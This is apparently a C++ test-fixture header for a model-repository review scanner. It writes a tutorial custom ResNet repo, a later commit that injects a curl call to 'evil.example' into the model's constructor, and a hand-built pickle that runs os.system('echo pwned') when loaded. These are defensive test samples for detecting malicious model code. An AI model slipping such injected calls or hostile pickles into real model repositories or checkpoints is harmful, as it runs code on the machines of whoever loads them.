#pragma once

// Fixture repos for the review tests, written by the tests themselves into temporary folders: the
// tutorial's custom ResNet (configuration_resnet.py, modeling_resnet.py), a later commit of it that
// adds a subprocess call, and helpers to write files and pickles.

#include <initializer_list>
#include <utility>

// moc does not need these fixtures (and its parser trips over the raw string literals).
#ifndef Q_MOC_RUN

#include <QByteArray>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QString>

namespace mwb::review::fixtures {

inline bool writeFile(const QString& path, const QByteArray& content)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    return f.open(QIODevice::WriteOnly) && f.write(content) == content.size();
}

inline const QByteArray kTutorialConfig = R"({
  "architectures": ["ResnetModelForImageClassification"],
  "auto_map": {
    "AutoConfig": "configuration_resnet.ResnetConfig",
    "AutoModel": "modeling_resnet.ResnetModel",
    "AutoModelForImageClassification": "modeling_resnet.ResnetModelForImageClassification"
  },
  "avg_down": true,
  "base_width": 64,
  "block_type": "bottleneck",
  "cardinality": 1,
  "input_channels": 3,
  "layers": [3, 4, 6, 3],
  "model_type": "resnet",
  "num_classes": 1000,
  "stem_type": "deep",
  "stem_width": 32,
  "torch_dtype": "float32",
  "transformers_version": "4.26.0"
}
)";

inline const QByteArray kConfigurationResnet = R"PY(from transformers import PretrainedConfig
from typing import List


class ResnetConfig(PretrainedConfig):
    model_type = "resnet"

    def __init__(
        self,
        block_type="bottleneck",
        layers: List[int] = [3, 4, 6, 3],
        num_classes: int = 1000,
        input_channels: int = 3,
        cardinality: int = 1,
        base_width: int = 64,
        stem_width: int = 64,
        stem_type: str = "",
        avg_down: bool = False,
        **kwargs,
    ):
        if block_type not in ["basic", "bottleneck"]:
            raise ValueError(f"`block_type` must be 'basic' or bottleneck', got {block_type}.")
        if stem_type not in ["", "deep", "deep-tiered"]:
            raise ValueError(f"`stem_type` must be '', 'deep' or 'deep-tiered', got {stem_type}.")

        self.block_type = block_type
        self.layers = layers
        self.num_classes = num_classes
        self.input_channels = input_channels
        self.cardinality = cardinality
        self.base_width = base_width
        self.stem_width = stem_width
        self.stem_type = stem_type
        self.avg_down = avg_down
        super().__init__(**kwargs)
)PY";

inline const QByteArray kModelingResnet = R"PY(from transformers import PreTrainedModel
from timm.models.resnet import BasicBlock, Bottleneck, ResNet
from .configuration_resnet import ResnetConfig


BLOCK_MAPPING = {"basic": BasicBlock, "bottleneck": Bottleneck}


class ResnetModel(PreTrainedModel):
    config_class = ResnetConfig

    def __init__(self, config):
        super().__init__(config)
        block_layer = BLOCK_MAPPING[config.block_type]
        self.model = ResNet(
            block_layer,
            config.layers,
            num_classes=config.num_classes,
            in_chans=config.input_channels,
            cardinality=config.cardinality,
            base_width=config.base_width,
            stem_width=config.stem_width,
            stem_type=config.stem_type,
            avg_down=config.avg_down,
        )

    def forward(self, tensor):
        return self.model.forward_features(tensor)


class ResnetModelForImageClassification(PreTrainedModel):
    config_class = ResnetConfig

    def __init__(self, config):
        super().__init__(config)
        block_layer = BLOCK_MAPPING[config.block_type]
        self.model = ResNet(
            block_layer,
            config.layers,
            num_classes=config.num_classes,
            in_chans=config.input_channels,
            cardinality=config.cardinality,
            base_width=config.base_width,
            stem_width=config.stem_width,
            stem_type=config.stem_type,
            avg_down=config.avg_down,
        )

    def forward(self, tensor, labels=None):
        logits = self.model(tensor)
        if labels is not None:
            import torch

            loss = torch.nn.functional.cross_entropy(logits, labels)
            return {"loss": loss, "logits": logits}
        return {"logits": logits}
)PY";

// The later commit: modeling_resnet.py gains a subprocess call in ResnetModel.__init__ (line 15) and
// the import it needs (line 1).
inline QByteArray modelingWithSubprocess()
{
    QByteArray text = kModelingResnet;
    text.prepend("import subprocess\n");
    const QByteArray anchor = "        super().__init__(config)\n";
    const qsizetype at = text.indexOf(anchor) + anchor.size(); // the first class only
    text.insert(at, "        subprocess.run([\"curl\", \"-s\", \"http://evil.example\"])\n");
    return text;
}

// Writes the tutorial repo (config + both code files) into `dir`.
inline bool writeTutorialRepo(const QString& dir, const QByteArray& modeling = kModelingResnet)
{
    return writeFile(dir + "/config.json", kTutorialConfig) &&
           writeFile(dir + "/configuration_resnet.py", kConfigurationResnet) &&
           writeFile(dir + "/modeling_resnet.py", modeling);
}

// A protocol-2 pickle that would call os.system("echo pwned") when loaded: GLOBAL 'posix system',
// then REDUCE. Never loaded by the tests, only scanned.
inline QByteArray hostilePickle()
{
    QByteArray p;
    p += "\x80\x02";
    p += "cposix\nsystem\n";
    p.append("X\x0a\x00\x00\x00", 5); // BINUNICODE, 10 bytes
    p += "echo pwned";
    p += "\x85"; // TUPLE1
    p += "R";    // REDUCE
    p += ".";    // STOP
    return p;
}

// A pickle importing only what a state_dict checkpoint needs.
inline QByteArray benignPickle()
{
    QByteArray p;
    p += "\x80\x02";
    p += "ccollections\nOrderedDict\n";
    p += ")R.";
    return p;
}

} // namespace mwb::review::fixtures

#endif // Q_MOC_RUN
